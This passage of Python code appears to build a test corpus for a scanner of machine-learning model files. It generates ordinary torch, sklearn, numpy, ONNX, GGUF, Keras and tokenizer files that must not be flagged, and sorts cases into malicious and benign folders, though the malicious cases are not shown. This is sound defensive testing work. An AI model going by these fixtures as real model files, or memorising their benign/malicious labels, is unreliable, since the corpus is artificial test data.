            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"name": "in", "batch_input_shape": [None, 4]},
                },
                {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}},
            ],
        },
    }
    path = dest / "model.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.create_dataset("model_weights/d/kernel", data=[[1.0, 2.0]] * 4)
    return path


def benign_cases() -> list[Case]:
    """Ordinary files from the real libraries; none may be flagged."""
    return [
        *[_benign_pickle(p) for p in range(6)],
        _torch_case("torch-state-dict", "torch state dict (zip)", _torch_state_dict),
        _torch_case("torch-sequential", "whole nn.Sequential (zip)", _torch_sequential),
        _torch_case("torch-checkpoint", "checkpoint with optimizer state", _torch_checkpoint),
        _torch_case(
            "torch-legacy-state-dict",
            "state dict in the legacy format",
            _torch_state_dict,
            legacy=True,
        ),
        _sklearn_case("sklearn-pickle", use_joblib=False),
        _sklearn_case("sklearn-joblib", use_joblib=True),
        _sklearn_case("sklearn-joblib-zlib", use_joblib=True, compress=3),
        _sklearn_case("sklearn-joblib-gzip", use_joblib=True, compress="gzip"),
        _sklearn_case("sklearn-joblib-bz2", use_joblib=True, compress="bz2"),
        _sklearn_case("sklearn-joblib-xz", use_joblib=True, compress="xz"),
        _sklearn_case("sklearn-joblib-lzma", use_joblib=True, compress="lzma"),
        _sklearn_case("sklearn-joblib-lz4", use_joblib=True, compress="lz4"),
        Case("pandas-frame", "pandas DataFrame.to_pickle", False, _pandas_case, None, ("pandas",)),
        Case("numpy-npy", "numpy .npy", False, _numpy_case, None, ("numpy",)),
        Case("numpy-npz", "numpy .npz (compressed)", False, _npz_case, None, ("numpy",)),
        Case("lightgbm", "LightGBM classifier pickle", False, _lightgbm_case, None, ("lightgbm",)),
        Case("safetensors", "safetensors file", False, _safetensors_case, None, ("safetensors",)),
        Case("onnx", "ONNX model", False, _onnx_case, None, ("onnx",)),
        Case(
            "gguf-template",
            "GGUF with an ordinary chat template",
            False,
            lambda d: _write(d, "model.gguf", _gguf(_ORDINARY_TEMPLATE)),
        ),
        Case("keras-h5", "Keras .h5 with built-in layers", False, _keras_h5_benign, None, ("h5py",)),
        Case(
            "tokenizer-config",
            "tokenizer_config.json with an ordinary template",
            False,
            lambda d: _write(
                d,
                "tokenizer_config.json",
                json.dumps({"chat_template": _ORDINARY_TEMPLATE}).encode(),
            ),
        ),
    ]


def available(case: Case) -> bool:
    import importlib.util

    return all(importlib.util.find_spec(mod) is not None for mod in case.needs)


def write_corpus(dest: Path) -> list[tuple[Case, Path]]:
    """Build every available case into its own folder under `dest`."""
    out = []
    for case in malicious_cases() + benign_cases():
        if not available(case):
            continue
        folder = dest / ("malicious" if case.malicious else "benign") / case.name
        folder.mkdir(parents=True, exist_ok=True)
        out.append((case, case.build(folder)))
    return out
